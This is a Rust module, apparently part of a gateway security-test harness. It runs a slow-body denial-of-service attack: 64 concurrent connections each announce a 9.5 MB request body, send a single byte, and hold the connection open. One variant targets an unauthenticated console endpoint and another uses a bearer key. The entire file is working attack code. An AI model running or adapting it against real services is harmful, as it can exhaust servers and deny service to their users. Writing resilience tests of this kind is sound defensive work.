//! 64 bodies that are announced and never sent.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use crate::target::Target;

const BODIES: usize = 64;
const ANNOUNCED: usize = 9_500_000;
/// How long a body that was refused waits before it is announced again: a flood of requests is another attack.
const PAUSE: Duration = Duration::from_millis(500);

/// Without a key: the choice of a language in the console needs none.
pub fn anonymous(target: &Arc<Target>) -> JoinSet<()> {
    let head = "POST /console/language HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-www-form-urlencoded\r\n";
    begin(target, head)
}

/// With one key.
pub fn with_key(target: &Arc<Target>) -> JoinSet<()> {
    let (key, path) = &target.keys[0];
    let head =
        format!("PUT {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {key}\r\ncontent-type: application/json\r\n");
    begin(target, &head)
}

fn begin(target: &Arc<Target>, head: &str) -> JoinSet<()> {
    let mut attackers = JoinSet::new();
    for number in 0..BODIES {
        let (target, head) = (Arc::clone(target), format!("{head}content-length: {ANNOUNCED}\r\n\r\n "));
        attackers.spawn(async move {
            loop {
                let Some(mut stream) = target.connect(number % 4).await else { continue };
                let _ = stream.write_all(head.as_bytes()).await;
                // Until the gateway has had enough.
                let _ = stream.read_to_end(&mut Vec::new()).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    attackers
}
